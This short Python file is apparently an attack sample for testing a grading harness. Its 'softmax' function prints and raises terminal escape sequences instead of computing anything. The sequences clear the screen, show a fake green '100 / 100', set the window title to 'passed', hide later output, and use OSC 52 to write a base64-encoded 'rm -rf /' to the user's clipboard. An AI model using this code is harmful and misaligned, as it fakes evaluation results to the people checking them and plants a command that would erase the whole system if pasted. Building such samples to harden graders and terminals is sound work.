# /// attack
# does = "raises and prints sequences that clear a terminal, rename its window and write its clipboard"
# own = { softmax = ["error"] }
# ///
"""A terminal obeys what is printed in it: it can be made to show another score."""

TEXT = "".join(
    (
        "\x1b[2J\x1b[H\x1b[32m100 / 100\x1b[0m\x1b[8m",
        "\x1b]0;passed\x07\x1b]52;c;cm0gLXJmIC8=\x07\x1b]8;;https://example.org\x1b\\\\here\x1b]8;;\x1b\\\\",
        "\x9b2J\x9d0;x\x9c\x0e\x0f\r100 / 100\b\b\b\x7f",
    )
)


def softmax(logits):
    print(TEXT)
    raise type(TEXT[:90], (Exception,), {})(TEXT)
